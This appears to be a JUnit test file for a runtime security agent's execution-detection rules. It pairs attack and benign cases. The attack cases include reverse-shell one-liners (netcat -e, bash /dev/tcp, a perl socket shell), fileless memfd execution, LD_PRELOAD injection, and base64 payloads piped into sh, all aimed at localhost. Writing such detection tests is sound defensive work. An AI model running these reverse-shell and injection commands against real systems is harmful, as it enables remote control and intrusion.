package io.sentineledge.agent.attack;

import static io.sentineledge.agent.attack.Case.attack;
import static io.sentineledge.agent.attack.Case.benign;

import java.util.List;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/** Cases for the rules of {@code execution.yaml}. */
@ExtendWith(AttackExtension.class)
final class ExecutionTest {
  private static final String REVERSE = "Reverse shell";
  private static final String RELAY = "Shell started by a network relay";
  private static final String CONNECT = "Network connection of a shell";
  private static final String COMMAND_LINE = "Reverse shell in a command line";
  private static final String FILELESS = "Fileless execution";
  private static final String TEMPORARY = "Program run from a temporary folder";
  private static final String LOADED = "Library loaded from a temporary folder";
  private static final String LOADER = "New program started by the dynamic loader";
  private static final String DECODED = "Decoded payload run by a shell";

  private static final String SERVER = "port=$(./serve exit)";

  static final List<Case> CASES =
      List.of(
          attack(REVERSE, "a shell on a socket", "./dial $port stdio /bin/sh -i")
              .given(SERVER)
              .field("proc.stdin.type", "ipv4")
              .field("proc.stdout.type", "ipv4")
              .fieldMatches("proc.stdio.remote", ".*127\\.0\\.0\\.1.*")
              .fieldMatches("proc.cmdline", "sh -i"),
          attack(REVERSE, "commands from a socket, output elsewhere", "./dial $port stdin bash")
              .given(SERVER)
              .field("proc.stdin.type", "ipv4"),
          attack(REVERSE, "a shell under another name", "./dial $port stdio ./worker -i")
              .given(SERVER + "\ncp /bin/sh worker"),
          attack(REVERSE, "an interpreter", "./dial $port stdio perl -e 1").given(SERVER),
          benign(REVERSE, "a shell that merely has a connection", "./dial $port third /bin/sh -c :")
              .given(SERVER),
          benign(REVERSE, "a shell on local sockets", "./dial $port unix /bin/sh").given(SERVER),
          benign(REVERSE, "a service on a socket", "./dial $port stdio cat").given(SERVER),
          attack(RELAY, "a netcat with -e", "./nc -e /bin/sh -c :")
              .given("mv relay nc")
              .field("proc.pexepath", "/srv/case/nc"),
          benign(RELAY, "another program that starts a shell", "./relay -e /bin/sh -c :"),
          attack(CONNECT, "a script with /dev/tcp", "bash ./connect $port")
              .given(SERVER + "\necho 'exec 3<>/dev/tcp/127.0.0.1/$1' >connect")
              .fieldMatches("fd.name", "127\\.0\\.0\\.1:[0-9]+->127\\.0\\.0\\.1:[0-9]+"),
          benign(CONNECT, "a program connects for the shell", "sh -c './dial '$port' third true'")
              .given(SERVER),
          attack(COMMAND_LINE, "bash with /dev/tcp", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/'$port")
              .given(SERVER)
              .andRule(CONNECT),
          attack(
                  COMMAND_LINE,
                  "perl",
                  """
                  perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,6);
                    connect(S,sockaddr_in(shift,inet_aton("127.0.0.1")));
                    open(STDIN,"<&S");open(STDOUT,">&S");exec("/bin/sh -i")' $port
                  """)
              .given(SERVER)
              .andRule(REVERSE),
          benign(COMMAND_LINE, "words about sockets", "perl -e 'print \"socket connect\\n\"'"),
          attack(FILELESS, "from memory", "./fileless memfd /bin/true")
              .field("proc.is_exe_from_memfd", "true"),
          attack(FILELESS, "from a deleted file", "./fileless deleted ./copy")
              .given("cp /bin/true copy")
              .field("proc.is_exe_from_memfd", "false"),
          benign(FILELESS, "deleted afterwards", "./copy && rm copy").given("cp /bin/true copy"),
          attack(TEMPORARY, "from /tmp", "/tmp/program")
              .given("cp /bin/true /tmp/program")
              .field("proc.exepath", "/tmp/program"),
          attack(TEMPORARY, "from memory that looks like disk", "cd /dev/shm && ./program")
              .given("cp /bin/true /dev/shm/program")
              .field("proc.exepath", "/dev/shm/program"),
          attack(TEMPORARY, "a script of /var/tmp", "cd /var/tmp && ./script")
              .given("printf '#!/bin/sh\\n:\\n' >/var/tmp/script && chmod +x /var/tmp/script")
              .fieldMatches("proc.exepath", "/usr/bin/.*sh"),
          attack(TEMPORARY, "a script as an argument", "sh /tmp/script")
              .given("echo : >/tmp/script"),
          attack(TEMPORARY, "through a symbolic link", "./alias/program")
              .given("cp /bin/true /tmp/program && ln -s /tmp alias")
              .field("proc.exepath", "/tmp/program"),
          benign(
                  TEMPORARY,
                  "a file of /tmp as data",
                  "./act read /tmp/data && sh -c 'cat /tmp/data'")
              .given("echo : >/tmp/data"),
          attack(LOADED, "a program by the loader", "/lib64/ld-linux-x86-64.so.2 /tmp/program")
              .given("cp /bin/true /tmp/program")
              .field("fd.name", "/tmp/program"),
          attack(LOADED, "a library", "LD_PRELOAD=/dev/shm/library /bin/true")
              .given("cp \"$(ldd /bin/true | awk '/libc[.]/ { print $3 }')\" /dev/shm/library")
              .field("fd.name", "/dev/shm/library"),
          benign(LOADED, "a library as data", "cat /tmp/library")
              .given("cp /bin/true /tmp/library"),
          attack(LOADER, "a new program", "/lib64/ld-linux-x86-64.so.2 ./program")
              .given("cp /bin/true program && chmod -x program")
              .field("fd.name", "/srv/case/program"),
          benign(LOADER, "an old program", "/lib64/ld-linux-x86-64.so.2 /bin/true"),
          attack(DECODED, "base64 into a shell", "sh -c 'echo OgoK | base64 -d | sh'")
              .field("proc.cmdline", "base64 -d"),
          attack(
              DECODED,
              "perl decodes and runs",
              "perl -MMIME::Base64 -e 'eval decode_base64(q(MTs=))'"),
          attack(DECODED, "piped into a shell that was typed", "echo 'echo : | sh' | sh")
              .field("proc.pcmdline", "sh"),
          benign(DECODED, "decoded to look at", "sh -c 'echo OgoK | base64 -d | cat'"),
          benign(DECODED, "decoded to a file", "sh -c 'echo OgoK | base64 -d >file; echo : | sh'"));

  @ParameterizedTest
  @FieldSource("CASES")
  void check(Case it, Attacks attacks) throws Exception {
    attacks.check(it);
  }
}
